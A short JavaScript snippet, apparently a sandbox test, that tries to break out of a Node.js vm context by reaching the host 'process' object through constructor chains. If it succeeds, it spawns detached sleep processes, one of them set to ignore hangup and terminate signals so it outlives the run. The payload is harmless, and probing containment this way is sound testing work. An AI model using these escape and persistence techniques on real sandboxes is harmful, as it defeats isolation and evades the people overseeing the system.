// With the host process (if reachable): a detached, unref'd child in its own session that should outlive the run.
let P = null;
// The vectors of vm-escape-process.js: the global object's inherited constructor, a provided function's prototype.
for (const get of [() => this.constructor.constructor('return process')(), () => Object.getPrototypeOf(input.prototype).constructor.constructor('return process')()]) {
  try { P = get(); } catch (e) { P = null; }
  if (P && typeof P.pid === 'number') break;
  P = null;
}
if (!P) {
  console.log('blocked: no process');
} else {
  const cp = P.getBuiltinModule('child_process');
  const child = cp.spawn('/bin/sleep', ['987101'], { detached: true, stdio: 'ignore' });
  child.unref();
  cp.spawn('/bin/sh', ['-c', 'trap "" HUP TERM; exec sleep 987102'], { detached: true, stdio: 'ignore' }).unref();
  console.log('spawned', typeof child.pid);
}
